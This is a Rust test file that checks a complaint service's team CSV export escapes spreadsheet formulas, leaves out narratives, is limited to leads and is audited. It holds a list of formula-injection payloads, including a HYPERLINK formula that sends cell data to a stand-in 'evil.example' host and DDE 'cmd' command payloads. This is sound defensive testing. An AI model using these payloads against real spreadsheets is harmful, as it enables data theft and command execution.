//! A team's table as a file: for its leads alone, recorded before a byte goes out, without a word of a narrative; and no cell of it
//! is a formula, whoever wrote what is in it.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail as tests do")]

use std::sync::atomic::Ordering;

use axum::http::StatusCode;
use ombud_contract::records::{Outcome, RawComplaint, RoutedComplaint};
use ombud_launch::guard::Role;

use crate::{
    bank::{Bank, NARRATIVE, NOW, Page},
    given::{decision, route},
};

const LEAD: &str = "lea/lead/cards";
const PATH: &str = "/teams/cards/export";
/// What spreadsheets take for a formula, or for the beginning of another cell or row.
const FORMULAS: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{ff1d}1+1",
    "a\",=1+1,\"",
    "a\n=1+1",
];

/// The cells of a file, row by row, as a program reads them that knows CSV.
fn cells(file: &Page) -> Vec<Vec<String>> {
    assert_eq!(file.status, StatusCode::OK, "{file:?}");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(file.text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// A complaint in which a CRM and models have put `text` wherever the table shows it.
async fn take(bank: &Bank, id: &str, text: &str) {
    let raw = RawComplaint::new(id, NARRATIVE, NOW);
    let labels = [("product", text), ("issue", text), ("vulnerable", "POSSIBLE")];
    let route = RoutedComplaint {
        complaint_id: id.into(),
        route_id: format!("r-{id}"),
        customer_ref: Some(text.into()),
        decisions: labels.map(|(task, label)| decision(task, label, Outcome::Labelled)).into(),
        ..route()
    };
    bank.take(&raw, &route, &[]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_is_a_formula_whoever_wrote_it_and_none_has_a_word_of_a_narrative() {
    let bank = Bank::open().await;
    for (number, formula) in FORMULAS.iter().enumerate() {
        take(&bank, &format!("f-{number}"), formula).await;
    }
    // An id may begin so as well.
    take(&bank, "=1+1", "Mortgage").await;
    take(&bank, "@c", "Mortgage").await;
    let taken = bank.send_form("=lea/lead/cards", "/complaints/@c/lease", "action=take").await;
    assert!(taken.status.is_redirection(), "{taken:?}");

    let file = bank.page(LEAD, PATH).await;
    let rows = cells(&file);
    assert_eq!(rows.len(), 1 + 2 + FORMULAS.len() + 2, "a header, what was there, what came: {rows:?}");
    assert!(rows.iter().all(|row| row.len() == rows[0].len()), "{rows:?}");
    for cell in rows.iter().flatten() {
        let first = cell.chars().find(|c| !c.is_whitespace() && !ombud_contract::shown::is_hidden(*c));
        let is_formula = first.is_some_and(|first| "=+-@|\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(first));
        assert!(!is_formula && !cell.starts_with(['\t', '\r', '\n']), "{cell:?} is a formula");
    }
    for (number, formula) in FORMULAS.iter().enumerate() {
        let row = rows.iter().find(|row| row[0] == format!("f-{number}")).unwrap();
        let kept = row.iter().filter(|cell| cell.trim_start_matches('\'').contains(formula.trim())).count();
        assert_eq!(kept, 2, "issue and product are there as they were written: {row:?}");
    }
    assert!(
        rows.iter().any(|row| row[0] == "'=1+1") && rows.iter().any(|row| row.contains(&"'=lea".into())),
        "{rows:?}"
    );
    assert!(!file.text.contains("bereavement") && !file.text.contains("cust-1"), "{file:?}");
    assert_eq!(file.headers["cache-control"], "no-store");
    assert_eq!(file.headers["x-content-type-options"], "nosniff");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn it_is_for_leads_of_the_team_and_recorded_before_a_byte_goes_out() {
    let bank = Bank::open().await;
    for role in Role::ALL {
        let file = bank.page(&format!("anna/{}/cards", role.name()), PATH).await;
        assert_eq!(file.status == StatusCode::OK, role == Role::Lead, "{role:?}: {file:?}");
        assert!(role == Role::Lead || !file.text.contains("c-1"), "{role:?}: {file:?}");
    }
    assert_eq!(bank.audit().len(), 1, "who took nothing away is not recorded");
    let foreign = bank.page(LEAD, "/teams/loans/export").await;
    let absent = bank.page(LEAD, "/teams/lawns/export").await;
    assert_eq!((foreign.status, &foreign.text), (StatusCode::NOT_FOUND, &absent.text));
    assert_eq!(bank.page("otto/operator/", PATH).await.status, StatusCode::FORBIDDEN);

    bank.audit_is_broken.store(true, Ordering::SeqCst);
    let refused = bank.page(LEAD, PATH).await;
    assert_eq!(refused.status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(
        !refused.text.contains("c-1") && !refused.headers.contains_key("content-disposition"),
        "{refused:?}"
    );
    bank.audit_is_broken.store(false, Ordering::SeqCst);
    assert_eq!(bank.page(LEAD, PATH).await.status, StatusCode::OK);
    let entries: Vec<_> = bank.audit().into_iter().map(|it| (it.actor, it.action, it.subject)).collect();
    let expected = ["anna", "lea"].map(|who| (who.to_owned(), "exported".to_owned(), "cards".to_owned()));
    assert_eq!(entries, expected);
}
